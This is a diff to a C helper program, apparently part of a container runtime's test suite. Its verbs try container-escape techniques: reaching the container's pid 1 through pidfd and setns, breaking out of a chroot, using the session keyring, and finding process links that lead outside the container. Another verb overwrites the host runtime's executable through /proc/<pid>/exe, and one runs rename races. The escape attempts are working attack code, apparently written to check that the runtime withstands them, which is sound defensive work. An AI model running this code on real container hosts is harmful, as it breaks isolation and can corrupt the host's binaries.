@@ -6,10 +6,9 @@
  *   init               reaches for the container's pid 1
  *   chroot             climbs out of the root as from a chroot
  *   keyring            reaches for the session keyring
- *   programs OWN       looks into every process that comes up, until one shows a file of another
- *                      device than OWN's; with /stop there it ends by itself
- *   overwrite          waits for a process of a program on a read-only mount and writes to its file
- *   exchange A B       swaps two names as fast as it can, until it is killed
+ *   joining            looks into processes on their way into the container for a place outside
+ *   overwrite          writes to the file of a process that runs a program of the host
+ *   exchange A B…      swaps each pair of names, as fast as it can, until it is killed
  */
 #include <ctype.h>
 #include <dirent.h>
@@ -62,8 +61,8 @@ static void try_init_files(void)
 {
     static const char *const links[] = {"exe", "cwd", "root", "ns/mnt", "ns/user"};
     static const char *const readable[] = {"mem", "environ", "maps", "fd", "map_files"};
-    static const char *const writable[] = {
-        "mem", "exe", "oom_score_adj", "clear_refs", "coredump_filter", "uid_map", "autogroup"};
+    static const char *const writable[] = {"mem", "exe", "oom_score_adj", "clear_refs",
+                                           "coredump_filter"};
     char path[64], target[256];
 
     for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
@@ -93,18 +92,6 @@ static void try_init_limits(void)
     }
 }
 
-/* Signals to it: those that are sent must not end or stop it, which the caller sees by what
- * runs on. */
-static void try_init_signals(void)
-{
-    static const int signals[] = {SIGKILL, SIGSTOP, SIGSEGV, SIGBUS,  SIGILL,  SIGTRAP,
-                                  SIGSYS,  SIGFPE,  SIGPIPE, SIGTTIN, SIGTTOU, SIGTSTP};
-
-    for (size_t i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
-        (void)kill(1, signals[i]);
-    printf("signals sent\n");
-}
-
 static void attack_init(void)
 {
     int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
@@ -115,7 +102,6 @@ static void attack_init(void)
     show("pidfd_open", pidfd);
     show("pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, 0, 0));
     show("setns", setns(pidfd, CLONE_NEWNS));
-    try_init_signals();
 }
 
 // -------------------------------------------------------------------------------------------- root
@@ -159,12 +145,12 @@ static void attack_keyring(void)
     show("join", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL));
     show("add", syscall(SYS_add_key, "user", "x", "y", 1, KEY_SPEC_SESSION_KEYRING));
     show("request", syscall(SYS_request_key, "user", "x", NULL, KEY_SPEC_SESSION_KEYRING));
-    try_open("/proc/keys", O_RDONLY);
 }
 
 // --------------------------------------------------------------------------------- other processes
 
-/* Calls `look` for every process but 1 and ourselves, again and again, until it returns true. */
+/* Calls `look` for every process but 1 and ourselves, again and again, until it returns true or
+ * there is a file /tmp/stop. */
 static void watch(bool (*look)(const char *pid))
 {
     const pid_t self = getpid();
@@ -181,51 +167,56 @@ static void watch(bool (*look)(const char *pid))
         }
         closedir(processes);
     }
-    printf("nothing\n");
 }
 
 static dev_t own_device;
-static unsigned long looks;
 
-/* Whether what we can see of it is a place outside of the container. */
+/* Whether what can be seen of it is a place outside of the container. */
 static bool look_outside(const char *pid)
 {
-    static const char *const links[] = {"root", "cwd", "root/proc/1/root"};
-    char path[64];
+    static const char *const links[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"};
+    static bool met;
+    char path[64], target[256];
     struct stat place;
 
-    looks++;
+    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+    if (!met && readlink(path, target, sizeof(target)) < 0 && errno == EACCES) {
+        met = true;
+        printf("met EACCES\n"); /* one on its way in */
+    }
     for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
         snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
-        if (stat(path, &place) == 0 && place.st_dev != own_device) {
-            printf("%s leads outside\n", path);
-            return true;
-        }
-    }
-    for (int fd = 3; fd < 24; fd++) {
-        snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
         if (stat(path, &place) == 0 && (S_ISDIR(place.st_mode) || S_ISREG(place.st_mode)) &&
             place.st_dev != own_device) {
-            printf("%s leads outside\n", path);
+            printf("%s OUTSIDE\n", path);
             return true;
         }
     }
     return false;
 }
 
-/* A program on a read-only mount is a runtime's own, which runs here as an interpreter. */
+static bool is_read_only(int fd)
+{
+    struct statvfs filesystem;
+
+    return fstatvfs(fd, &filesystem) == 0 && (filesystem.f_flag & ST_RDONLY) != 0;
+}
+
+/* One on a read-only mount is the runtime's own, which the kernel runs as an interpreter. */
 static bool look_overwrite(const char *pid)
 {
     char path[64];
-    struct statvfs filesystem;
 
     snprintf(path, sizeof(path), "/proc/%s/exe", pid);
     int fd = open(path, O_RDONLY | O_CLOEXEC);
-    if (fd < 0 || fstatvfs(fd, &filesystem) < 0 || (filesystem.f_flag & ST_RDONLY) == 0) {
-        close(fd);
+    if (fd < 0)
+        return false;
+    int running = is_read_only(fd) ? open(path, O_WRONLY | O_TRUNC) : fd;
+    if (running == fd || (running < 0 && (errno == ENOENT || errno == ESRCH))) {
+        close(fd); /* another program, or one that has just ended */
         return false;
     }
-    show("write-running", open(path, O_WRONLY | O_TRUNC));
+    show("write-running", running);
     (void)kill(atoi(pid), SIGKILL);
     while (kill(atoi(pid), 0) == 0)
         sched_yield();
@@ -235,7 +226,7 @@ static bool look_overwrite(const char *pid)
     return true;
 }
 
-static void attack_programs(void)
+static void attack_joining(void)
 {
     struct stat root;
 
@@ -243,14 +234,14 @@ static void attack_programs(void)
         exit(2);
     own_device = root.st_dev;
     watch(look_outside);
-    printf("looked %s\n", looks > 0 ? "often" : "never");
 }
 
-static void exchange(const char *first, const char *second)
+static void exchange(char *const *names)
 {
     for (;;)
-        if (renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) < 0)
-            exit(errno == ENOENT ? 0 : 2);
+        for (char *const *pair = names; pair[0] != NULL && pair[1] != NULL; pair += 2)
+            if (renameat2(AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE) < 0)
+                exit(2);
 }
 
 int main(int argc, char **argv)
@@ -267,12 +258,12 @@ int main(int argc, char **argv)
         attack_chroot();
     else if (strcmp(verb, "keyring") == 0)
         attack_keyring();
-    else if (strcmp(verb, "programs") == 0)
-        attack_programs();
+    else if (strcmp(verb, "joining") == 0)
+        attack_joining();
     else if (strcmp(verb, "overwrite") == 0)
         watch(look_overwrite);
-    else if (strcmp(verb, "exchange") == 0 && argc == 4)
-        exchange(argv[2], argv[3]);
+    else if (strcmp(verb, "exchange") == 0)
+        exchange(argv + 2);
     else
         return 2;
     return 0;
